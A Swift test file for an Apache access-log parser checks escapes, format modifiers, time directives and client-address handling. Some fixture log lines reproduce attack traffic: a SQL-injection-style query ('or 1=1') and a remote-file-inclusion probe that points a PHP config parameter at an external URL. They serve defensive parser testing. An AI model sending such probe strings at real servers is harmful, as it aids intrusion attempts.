import Testing
@testable import CorsLogKit

@Suite struct ApacheFormatParseTests {
    typealias T = ParseTestSupport

    @Test func apacheEscapesInsideQuotedFields() throws {
        let format = try LogFormat.parse(definition: #"%h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\" \"%{Origin}i\""#)
        #expect(format.name == "Apache LogFormat")
        #expect(format.syntax == .apache)
        // \" inside the UA does not end it; \\ and \t are undone.
        let line = #"192.0.2.5 - - [10/Oct/2000:13:55:36 -0700] "GET /x HTTP/1.1" 200 10 "-" "Agent \"Q\" \" C:\\tmp\tx" "https://o.example""#
        let f = try #require(T.parse(format, line).fields)
        #expect(f.userAgent == "Agent \"Q\" \" C:\\tmp\tx")
        #expect(f.origin == "https://o.example")
        #expect(f.time == 971_211_336)
        // An escaped quote followed by a space inside the request, and one right before the
        // closing quote of the last field, do not end those fields.
        let sqli = T.parse(T.preset("combined"), #"192.0.2.5 - - [10/Oct/2000:13:55:36 -0700] "GET /s?q=\" or 1=1 HTTP/1.1" 200 10 "-" "Agent \"x\"""#)
        #expect(sqli.failure == nil)
        #expect(sqli.fields?.uri == #"/s?q=" or 1=1"#)
        #expect(sqli.fields?.status == 200)
        #expect(sqli.fields?.userAgent == #"Agent "x""#)
        #expect(!sqli.trailing)
        // crowdsec-apache2-malformed.log: a TLS handshake escaped as \x16\x03…, with a space inside.
        let tls = T.parse(format, #"1.2.3.4 - - [17/Oct/2023:05:57:49 +1100] "\x16\x03\x01\x01 \x02" 400 226 "-" "-" "-""#)
        #expect(tls.failure == nil)
        #expect(tls.fields?.method == "")
        #expect(tls.fields?.status == 400)
        // A request with an escaped quote, from crowdsec-hub-clf-lines.log (apache-http-probing).
        let probe = try #require(T.parse(T.preset("common"), #"172.17.0.1 - - [29/Sep/2021:12:37:05 +0000] "GET /sys/code/box.inc.php?config[\\\"sipssys\\\"]=http://cirt.net/rfiinc.txt? HTTP/1.1" 404 196"#).fields)
        #expect(probe.uri == #"/sys/code/box.inc.php?config[\"sipssys\"]=http://cirt.net/rfiinc.txt?"#)
        #expect(probe.status == 404)
    }

    @Test func modifiersConditionsAndPercent() throws {
        let format = try LogFormat.parse(definition: #"%a %<s/%>s %400,501{User-agent}i|%!200,304{Referer}i|%m %U%q 100%% %{ORIGIN}i %{access-control-allow-origin}o %V"#)
        #expect(format.fields.isSuperset(of: [.clientAddress, .status, .userAgent, .referer, .method, .uri, .origin, .allowOrigin, .host]))
        let f = try #require(T.parse(format, #"192.0.2.9 302/200 curl/8|-|DELETE /items/7?force=1 100% https://o.example https://o.example v.example"#).fields)
        #expect(f.clientAddress == "192.0.2.9")
        #expect(f.status == 200)  // %>s, the final status, wins over %<s
        #expect(f.userAgent == "curl/8")
        #expect(f.referer == "")
        #expect(f.method == "DELETE")
        #expect(f.uri == "/items/7?force=1")
        #expect(f.origin == "https://o.example")
        #expect(f.allowOrigin == "https://o.example")
        #expect(f.host == "v.example")
    }

    @Test func customTimeDirectives() throws {
        let strf = try LogFormat.parse(definition: #"%h [%{%Y-%m-%d %H:%M:%S %z}t] "%r" %>s"#)
        let f = try #require(T.parse(strf, #"192.0.2.1 [2000-10-10 13:55:36 -0700] "GET / HTTP/1.1" 200"#).fields)
        #expect(f.time == 971_211_336)
        #expect(T.parse(strf, #"192.0.2.1 [2000-10-10 xx:55:36 -0700] "GET / HTTP/1.1" 200"#).failure?.kind == .badTime)

        let msec = try LogFormat.parse(definition: #"%h %{msec}t "%r" %>s"#)
        #expect(T.parse(msec, #"192.0.2.1 971211336123 "GET / HTTP/1.1" 200"#).fields?.time == 971_211_336)
        let sec = try LogFormat.parse(definition: #"%h %{end:sec}t "%r" %>s"#)
        #expect(T.parse(sec, #"192.0.2.1 971211336 "GET / HTTP/1.1" 200"#).fields?.time == 971_211_336)
    }

    @Test func clientAddressDirectives() throws {
        let peer = try LogFormat.parse(definition: #"%{c}a "%r""#)
        #expect(T.parse(peer, #"2001:db8::1 "GET / HTTP/1.1""#).fields?.clientAddress == "2001:db8::1")
        // Another header is not the client, even X-Forwarded-For.
        let xff = try LogFormat.parse(definition: #"%{X-Forwarded-For}i "%r""#)
        #expect(!xff.fields.contains(.clientAddress))
    }
}
